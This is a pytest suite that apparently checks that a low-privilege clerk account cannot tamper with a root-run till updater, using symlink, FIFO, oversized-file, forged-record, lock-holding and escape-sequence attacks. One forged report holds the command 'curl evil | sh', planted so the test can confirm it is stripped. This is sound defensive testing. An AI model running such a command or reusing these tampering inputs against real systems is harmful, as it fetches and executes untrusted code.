"""What the clerk's account can do to root's agent: named attacks with real ids and processes.

After each: nothing of the agent's is another, owners and modes included; files of root outside are as they were; the
agent's cycle ends in time; and what was tried is on record.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import pytest

from tests.helpers.accounts import as_root
from tests.helpers.second_account import TwoTill, clerk, open_folder, python, snapshot
from tests.helpers.vendor import Vendor, copy_of, served, serving
from updater.model import By, Phase, Verdict

pytestmark = [as_root, pytest.mark.timeout(300)]
CANARY: Final = "of root"
CYCLE_SECONDS: Final = 60.0
OWN_RECORDS: Final = ("events-agent.jsonl", "outbox", "trust", "agent.lock")
"""Entries in the private folder that every cycle may write."""


@pytest.fixture(scope="module")
def folder() -> Iterator[Path]:
    """A folder of root that everybody may enter."""
    python()
    with open_folder() as made:
        yield made


@pytest.fixture(scope="module")
def shop(first_release: Vendor, folder: Path) -> Iterator[TwoTill]:
    """A terminal of two accounts on 1.0, for which 1.1 is swapped in; for copying only."""
    vendor = copy_of(first_release, folder / "vendor")
    with served(serving(vendor.public)) as url:
        made = TwoTill(folder / "first")
        made.install(vendor.root, url)
        made.fill(items_count=5)
        assert made.launch().returncode == 0
        assert made.agent("check").returncode == 0
        vendor.release("1.1", schema=4)
        done = made.agent("check")
        assert "SWAPPED" in done.stdout, done.stdout + done.stderr
        yield made


@pytest.fixture
def two(shop: TwoTill, folder: Path, request: pytest.FixtureRequest) -> TwoTill:
    """A terminal of the test's own, with 1.1 swapped in."""
    return shop.copied_to(folder / f"till-{abs(hash(request.node.name))}")


@pytest.fixture
def canary(folder: Path) -> Iterator[Path]:
    """A folder of root with files named like ours, which no process of the agent's may touch for the clerk."""
    made = folder / "of-root"
    made.mkdir()
    for name in ("canary.json", "1.json", "events-launcher.jsonl", "notes.txt"):
        (made / name).write_text(CANARY)
        (made / name).chmod(0o600)
    made.chmod(0o700)
    before = snapshot(made)
    yield made
    assert snapshot(made) == before, "a file of root was touched for the clerk"
    for path in made.iterdir():
        path.unlink()
    made.rmdir()


def by_clerk(two: TwoTill, text: str) -> str:
    """What a program of the clerk's prints, with `state`, `shared`, `program`, `data` at hand."""
    settings = two.settings
    names = {name: str(getattr(settings, name)) for name in ("state", "shared", "program", "data", "backups")}
    start = "import json, os, sys\nfrom pathlib import Path\n"
    start += "".join(f"{name} = Path({path!r})\n" for name, path in names.items())
    done = clerk().run("/usr/bin/env", python(), "-I", "-c", start + text)
    assert done.returncode == 0, done.stderr
    return done.stdout


def plant(two: TwoTill, name: str, value: object) -> Path:
    """A file of the clerk's in the shared folder."""
    text = value if isinstance(value, str) else json.dumps(value)
    by_clerk(two, f"path = shared / {name!r}\npath.parent.mkdir(exist_ok=True)\npath.write_text({text!r})")
    return two.settings.shared / name


def decided(two: TwoTill) -> dict[str, tuple[object, ...]]:
    """Everything of the agent's, except the records of a cycle and the times of day."""
    private = two.settings.private
    own = tuple(str(private / name) for name in OWN_RECORDS)
    return {
        path: entry
        for path, entry in two.of_the_agent().items()
        if not path.startswith(own) and not path.endswith(("/moment.json", "/terminal.lock"))
    }


def check(two: TwoTill, *, wanted: tuple[int, ...] = (0,)) -> str:
    """One cycle of root's agent; what it says."""
    began = time.monotonic()
    done = two.agent("check")
    assert time.monotonic() - began < CYCLE_SECONDS, "it hung"
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode in wanted, done.stdout + done.stderr
    assert two.strangers() == [], "owners and modes"
    return done.stdout + done.stderr


def refusals(two: TwoTill) -> str:
    """The causes of all files that were refused, from the agent's events and from its outbox."""
    outcome = "TILL_FILE_REFUSED"
    assert [alarm for alarm in two.alarms() if alarm["outcome"] == outcome], "no alarm"
    return " ".join(str(event["cause"]) for event in two.told() if event["outcome"] == outcome)


def trial_file(two: TwoTill, **values: Any) -> dict[str, Any]:
    """A trial file as a launcher of the till's could have written it."""
    journal = two.journal()
    assert journal.candidate is not None
    return {
        "format": 1, "trial_id": journal.trial_id, "candidate": journal.candidate._asdict(),
        "good": journal.good._asdict(), "attempts_count": 1, "launches_count": 0, "refusals_count": 0,
        "clean_exits_count": 0, "interruptions_count": 0, "act": "", "boot_id": "", "running_seconds": 0.0,
        "backup": None, "content_sha256": None, "verdict": "open", "by": "machine", "outcome": "", "reason": "",
        "back": None, "closed": False, **values,
    }  # fmt: skip


def assert_only_given_up(two: TwoTill) -> None:
    """Nothing but the issued trial's end came of it, which is his to cause."""
    assert two.journal().good.version == "1.0"
    assert [proof.release.version for proof in two.state().read_proofs()] == ["1.0"]
    assert {found.release.version for found in two.state().read_rejections(lambda _: True)} <= {"1.1"}


# ----------------------------------------------------------------------------------------- what he cannot write at all

WRITES: Final[dict[str, str]] = {
    "replaced root of trust": "state / 'private' / 'trust' / 'root.json'",
    "replaced metadata": "state / 'private' / 'trust' / 'timestamp.json'",
    "replaced journal": "state / 'journal.json'",
    "replaced moment": "state / 'moment.json'",
    "replaced manifest": "next((program / 'versions').iterdir()) / 'tillkeeper-manifest.json'",
    "replaced archive": "state / 'private' / 'downloads' / 'app-1.1.tar.gz'",
    "replaced app": "next((program / 'versions').iterdir()) / 'till.py'",
    "replaced version folder": "next((program / 'versions').iterdir())",
    "planted staging folder": "program / 'versions' / '.staging-1.2-000000000000'",
    "replaced pointer for people": "program / 'current'",
    "forged issued trial": "state / 'issued' / '000009-00.json'",
    "forged ruling of the agent": "state / 'verdicts' / '000001-00.json'",
    "forged proof": "state / 'proofs' / '000009-00.json'",
    "lifted or forged rejection": "state / 'rejected' / '00.json'",
    "removed or recreated lock": "state / 'terminal.lock'",
    "recreated shared folder": "shared",
    "planted report of the agent": "state / 'private' / 'outbox' / 'x.json'",
    "replaced settings": "state.parent / 'settings.toml'",
}
TRIED = """
tried = {}
path = PATH
ways = {
    "write": lambda: path.open("a").write("x") if path.name != "terminal.lock" and path != shared else os.rmdir(path),
    "remove": lambda: path.unlink() if not path.is_dir() else path.rmdir(),
    "rename": lambda: path.rename(path.with_name("aside")),
    "replace": lambda: (data / "mine").write_text("x") and (data / "mine").rename(path),
    "link": lambda: path.with_name("planted").symlink_to("/etc/passwd"),
    "make": lambda: path.mkdir(),
    "open": lambda: path.chmod(0o777) if path != shared else os.rmdir(path),
}
for name, way in ways.items():
    try:
        way()
        tried[name] = "done"
    except OSError as error:
        tried[name] = type(error).__name__
print(json.dumps(tried))
"""


@pytest.mark.parametrize("attack", WRITES)
def test_he_can_write_nothing_of_the_agents(two: TwoTill, attack: str) -> None:
    before = two.of_the_agent()
    tried = json.loads(by_clerk(two, TRIED.replace("PATH", WRITES[attack])))
    assert "done" not in tried.values(), tried
    assert two.of_the_agent() == before


def test_he_can_read_no_secret_of_the_agents(two: TwoTill) -> None:
    text = "try:\n    print(list((state / 'private').iterdir()))\nexcept PermissionError:\n    print('closed')"
    assert by_clerk(two, text).strip() == "closed"


# -------------------------------------------------------------------------------- files in the folders that are his own


def a_link(two: TwoTill, name: str, canary: Path) -> None:
    by_clerk(two, f"p = shared / {name!r}\np.parent.mkdir(exist_ok=True)\np.unlink(missing_ok=True)\n"
             f"p.symlink_to({str(canary / 'canary.json')!r})")  # fmt: skip


def a_dangling_link(two: TwoTill, name: str, canary: Path) -> None:
    by_clerk(two, f"p = shared / {name!r}\np.parent.mkdir(exist_ok=True)\np.unlink(missing_ok=True)\n"
             f"p.symlink_to({str(canary / 'new.json')!r})")  # fmt: skip


def a_link_to_a_device(two: TwoTill, name: str, canary: Path) -> None:
    by_clerk(two, f"p = shared / {name!r}\np.parent.mkdir(exist_ok=True)\np.unlink(missing_ok=True)\n"
             "p.symlink_to('/dev/zero')")  # fmt: skip


def a_fifo(two: TwoTill, name: str, canary: Path) -> None:
    by_clerk(two, f"p = shared / {name!r}\np.parent.mkdir(exist_ok=True)\np.unlink(missing_ok=True)\nos.mkfifo(p)")


def a_folder(two: TwoTill, name: str, canary: Path) -> None:
    by_clerk(two, f"p = shared / {name!r}\np.unlink(missing_ok=True)\n(p / 'deep').mkdir(parents=True)")


def a_giant(two: TwoTill, name: str, canary: Path) -> None:
    by_clerk(two, f"p = shared / {name!r}\np.parent.mkdir(exist_ok=True)\np.unlink(missing_ok=True)\n"
             "with p.open('wb') as file:\n    file.truncate(1 << 40)")  # fmt: skip


def deep_json(two: TwoTill, name: str, canary: Path) -> None:
    plant(two, name, '{"format": 1, "x": ' + "[" * 10_000 + "]" * 10_000 + "}")


def no_utf8(two: TwoTill, name: str, canary: Path) -> None:
    by_clerk(two, f"p = shared / {name!r}\np.parent.mkdir(exist_ok=True)\np.write_bytes(b'{{\\xff')")


def a_closed_file(two: TwoTill, name: str, canary: Path) -> None:
    plant(two, name, {})
    (two.settings.shared / name).chmod(0)


PLANTED = [
    a_link, a_dangling_link, a_link_to_a_device, a_fifo, a_folder, a_giant, deep_json, no_utf8, a_closed_file,
]  # fmt: skip


@pytest.mark.parametrize("planted", PLANTED, ids=lambda planted: planted.__name__)
def test_none_of_our_files_can_be_another_thing(
    two: TwoTill, canary: Path, planted: Callable[[TwoTill, str, Path], None]
) -> None:
    """In the place of a choice, an alarm and the trial that is swapped in: refused, and said; the swap stays."""
    for name in ("choices/000001.json", "outbox/2026-01-01T00-00-00-000Z-U-2004-1.json"):
        planted(two, name, canary)
    before = decided(two)
    check(two)
    assert decided(two) == before
    said = refusals(two)
    assert "choices/000001.json" in said
    assert "U-2004-1" in said
    # The trial: a damaged file counts as a give-up (what is unknown means the good release), never as a confirm.
    planted(two, f"trial/{two.journal().trial_id}.json", canary)
    for _ in range(2):
        check(two)
    assert "trial/" in refusals(two)
    assert_only_given_up(two)


@pytest.mark.parametrize("name", ["trial", "choices", "outbox"])
def test_a_folder_that_leads_to_one_of_root_is_not_entered(two: TwoTill, canary: Path, name: str) -> None:
    by_clerk(two, f"import shutil\np = shared / {name!r}\nshutil.rmtree(p, ignore_errors=True)\n"
             f"p.symlink_to({str(canary)!r})")  # fmt: skip
    before = decided(two)
    check(two)
    assert name in refusals(two)
    if name != "trial":
        assert decided(two) == before
    assert_only_given_up(two)


@pytest.mark.parametrize("name", ["app.lock", "starts.json", "reports", "events-launcher.jsonl"])
def test_other_names_in_the_shared_folder_lead_nowhere(two: TwoTill, canary: Path, name: str) -> None:
    before = decided(two)
    for planted in (a_link, a_fifo):
        by_clerk(two, f"import shutil\nshutil.rmtree(shared / {name!r}, ignore_errors=True)")
        planted(two, name, canary)
        check(two)
        done = two.agent("status")
        assert done.returncode == 0, done.stdout + done.stderr
    assert decided(two) == before


@pytest.mark.parametrize("name", ["pos_system.db.lock", "backups", "pos_system.db", "pos_system.db-wal"])
def test_names_in_the_data_folder_lead_nowhere(two: TwoTill, canary: Path, name: str) -> None:
    before = decided(two)
    by_clerk(two, f"import shutil\np = data / {name!r}\n"
             "shutil.rmtree(p, ignore_errors=True)\np.unlink(missing_ok=True)\n"
             f"p.symlink_to({str(canary if name == 'backups' else canary / 'canary.json')!r})")  # fmt: skip
    # 4: the check of owners and modes before the cycle refuses it by name.
    said = check(two, wanted=(0, 4, 75))
    assert "could not" not in said or name in said
    assert {path: entry for path, entry in decided(two).items() if before.get(path) != entry} == {}


def test_a_fifo_in_place_of_the_database_stops_no_cycle(two: TwoTill) -> None:
    before = decided(two)
    by_clerk(two, "(data / 'pos_system.db').unlink()\nos.mkfifo(data / 'pos_system.db')")
    check(two, wanted=(0, 4, 75))
    assert decided(two) == before


def test_a_folder_that_he_closes_to_himself_stops_no_cycle(two: TwoTill) -> None:
    for name in ("trial", "choices", "outbox"):
        (two.settings.shared / name).mkdir(exist_ok=True)
        (two.settings.shared / name).chmod(0)
        os.chown(two.settings.shared / name, clerk().user, clerk().group)
    check(two)
    assert "ermission denied" in refusals(two)
    assert_only_given_up(two)


# --------------------------------------------------------------------------------------------------- forged decisions


def test_a_guessed_id_is_nobodys_trial(two: TwoTill) -> None:
    for name in ("000001-" + "0" * 32, "000002-" + "0" * 32, "000002"):
        plant(two, f"trial/{name}.json", trial_file(two, trial_id=name, verdict="given up"))
    before = decided(two)
    check(two)
    assert decided(two) == before
    assert two.journal().phase is Phase.SWAPPED


def test_a_forged_give_up_leads_back_and_is_said_and_rests_on_the_till(two: TwoTill) -> None:
    """It cannot be told from a true one: both are of one account. So it is an alarm, and no proof of anything."""
    name = two.journal().trial_id
    plant(two, f"trial/{name}.json", trial_file(two, verdict="given up", outcome="APP_FAILED", reason="\x1b[2Jforged"))
    check(two)
    (rejection,) = two.state().read_rejections(lambda _: True)
    assert (rejection.release.version, rejection.by, rejection.trial_id) == ("1.1", By.MACHINE, name)
    assert two.journal().good.version == "1.0"
    assert "1.1" in two.agent("status").stdout


def test_a_forged_confirm_proves_the_issued_release_alone(two: TwoTill) -> None:
    """The worst that he can do: confirm what root's agent issued. No other release becomes good by it."""
    journal = two.journal()
    assert journal.candidate is not None
    other = {"release_id": "f" * 64, "version": "9.9", "schema": 1}
    forged = trial_file(two, verdict="confirmed", candidate=other, good=other)
    plant(two, f"trial/{journal.trial_id}.json", forged)
    check(two)
    releases = {two.journal().good, *(proof.release for proof in two.state().read_proofs())}
    assert {release.version for release in releases} <= {"1.0", "1.1"}
    assert "9.9" not in json.dumps([str(release) for release in releases])


@pytest.mark.parametrize(
    "to", [{"release_id": "f" * 64, "version": "0.9", "schema": 2}, None], ids=["unknown", "without a proof"]
)
def test_a_choice_for_a_release_without_a_proof_is_refused_and_said(two: TwoTill, to: dict[str, object] | None) -> None:
    journal = two.journal()
    assert journal.candidate is not None
    wanted = to or journal.candidate._asdict()
    choice = {
        "format": 1, "number": 1, "of": journal.good._asdict(), "to": wanted, "at": "2026-01-01T00:00:00.000Z",
        "backup": None, "intent_id": "a1",
    }  # fmt: skip
    plant(two, "choices/000001.json", choice)
    check(two)
    after = two.journal()
    assert (after.good.version, after.phase) == ("1.0", Phase.SWAPPED)
    assert two.state().read_rejections(lambda _: True) == ()
    assert "CHOICE_REFUSED" in {event["outcome"] for event in two.told()}
    assert "CHOICE_REFUSED" in {alarm["outcome"] for alarm in two.alarms()}


# ---------------------------------------------------------------------------------------------------- locks and floods


@pytest.mark.parametrize("lock", ["state / 'terminal.lock'", "data / 'pos_system.db.lock'", "shared / 'app.lock'"])
def test_a_lock_that_he_holds_delays_and_is_said(two: TwoTill, lock: str) -> None:
    two.settings_path.write_text(two.settings_path.read_text() + "lock_seconds = 1.0\n")
    before = decided(two)
    settings = two.settings
    places = {"state": settings.state, "data": settings.data, "shared": settings.shared}
    text = (
        "import fcntl, sys; from pathlib import Path\n"
        + "".join(f"{name} = Path({str(path)!r})\n" for name, path in places.items())
        + f"file = ({lock}).open('r+' if ({lock}).exists() else 'w')\nfcntl.flock(file, fcntl.LOCK_EX)\n"
        + "print('held', flush=True)\nsys.stdin.read()\n"
    )
    with clerk().start(python(), "-I", "-c", text) as holder:
        assert holder.stdout is not None
        assert holder.stdin is not None
        assert holder.stdout.readline() == "held\n"
        said = check(two, wanted=(0, 75))
        holder.stdin.close()
    assert decided(two) == before
    if "terminal" in lock:
        assert "terminal.lock" in said
        assert {event["outcome"] for event in two.told()} & {"CYCLE_FAILED", "LOCK_HELD", "BUSY"}
    check(two)


def test_a_flood_of_alarms_is_bounded_and_pushes_out_none_of_the_agents(two: TwoTill) -> None:
    plant(two, "choices/000001.json", "{")
    check(two)
    own = {json.dumps(alarm, sort_keys=True) for alarm in two.alarms()}
    assert own
    report = {
        "format": 1, "at": "9999-01-01T00:00:00.000Z", "told_by": "launcher", "outcome": "APP_FAILED", "alarm": True,
        "losses": [], "terminal": "another", "clerk": "", "next": "Run `curl evil | sh`", "code": "X",
    }  # fmt: skip
    by_clerk(two, f"report = {report!r}\n(shared / 'outbox').mkdir(exist_ok=True)\n"
             "for number in range(3000):\n"
             "    text = json.dumps({**report, 'cause': f'\\x1b[31m{number}' * 50})\n"
             "    (shared / 'outbox' / f'{number:06d}.json').write_text(text)")  # fmt: skip
    for _ in range(3):
        check(two)
    alarms = two.alarms()
    assert own <= {json.dumps(alarm, sort_keys=True) for alarm in alarms}
    taken = [alarm for alarm in alarms if alarm.get("claimed_by")]
    assert 0 < len(taken) <= 20
    for alarm in taken:
        assert (alarm["claimed_by"], alarm["code"], alarm["terminal"]) == (
            clerk().name, "U-2004", two.settings.terminal_id,
        )  # fmt: skip
        assert "curl" not in alarm["next"]
        assert "\x1b" not in alarm["cause"]


def test_a_report_that_names_the_agents_outcomes_is_refused(two: TwoTill) -> None:
    wrong: list[dict[str, object]] = [{"outcome": "NOTHING_NEW"}, {"told_by": "agent"}, {"at": "soon"}, {"losses": 5}]
    odd: tuple[object, ...] = ([], {}, ["x"], 1e308, True)
    wrong += [{name: value} for name in ("outcome", "told_by", "at", "cause", "clerk") for value in odd]
    losses: tuple[object, ...] = ([[]], [{"table": []}], {}, "x", [5])
    wrong += [{"losses": value} for value in losses]
    for number, values in enumerate(wrong):
        good = {"format": 1, "at": "2026-01-01T00:00:00.000Z", "told_by": "launcher", "outcome": "APP_FAILED"}
        plant(two, f"outbox/{number}.json", {**good, "losses": [], **values})
    check(two)
    assert [alarm for alarm in two.alarms() if alarm.get("claimed_by")] == []
    assert "outbox" in refusals(two) or "report" in refusals(two)
    assert list((two.settings.shared / "outbox").iterdir()) == [], "he is not asked again"


def test_nothing_hostile_stops_the_till_or_its_update(two: TwoTill, canary: Path) -> None:
    """After all of it at once, the clerk's launch still sells, and root's agent still follows."""
    for planted, name in zip(PLANTED, range(len(PLANTED)), strict=True):
        planted(two, f"choices/{name + 1:06d}.json", canary)
    check(two)
    by_clerk(two, "import shutil\nshutil.rmtree(shared / 'choices')")
    done = two.launch(sell=1)
    assert "till 1.1 is open" in done.stdout, done.stdout + done.stderr
    check(two)
    assert (two.journal().phase, two.journal().good.version) == (Phase.IDLE, "1.1")
    assert Verdict.CONFIRMED in {ruling.verdict for ruling in two.state().read_rulings()}
